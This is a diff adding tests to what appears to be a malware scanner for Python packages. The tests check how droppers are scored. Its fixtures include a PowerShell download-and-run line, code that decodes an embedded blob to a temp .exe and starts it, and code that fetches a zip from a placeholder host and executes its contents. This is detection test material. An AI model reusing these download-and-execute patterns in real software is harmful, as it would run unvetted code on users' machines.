@@ -382,3 +382,36 @@ test('a second way to fetch the same file is no start of it, a program behind it
     await of("\"(New-Object Net.WebClient).DownloadFile('%s', '%s'); & %s\" % (url, target, target)"),
   ).toMatchObject([{ score: 5 }]);
 });
+
+test('a program kept as text that a function writes and starts is malware', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import base64, os, tempfile',
+      `BLOB = '${Buffer.from(`MZ${'\0'.repeat(400)}`).toString('base64')}'`,
+      'def run():',
+      "    path = tempfile.mktemp('.exe')",
+      "    open(path, 'wb').write(base64.b64decode(BLOB))",
+      '    os.startfile(path)',
+    ),
+  });
+
+  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 9, context: 'call' }]);
+});
+
+test.each([
+  ["os.environ['TEMP']", [{ class: 'suspicious', score: 5 }]],
+  ['os.path.dirname(__file__)', []],
+])('a program out of a fetched archive that is unpacked in %s', async (folder, expected) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import io, os, subprocess, requests, zipfile',
+      'def run():',
+      `    folder = ${folder}`,
+      "    packed = zipfile.ZipFile(io.BytesIO(requests.get('https://get.vendor.invalid/a.zip').content))",
+      '    packed.extractall(folder)',
+      "    subprocess.Popen(os.path.join(folder, 'a', 'run.exe'))",
+    ),
+  });
+
+  expect(await inspect('dropper', file)).toMatchObject(expected);
+});
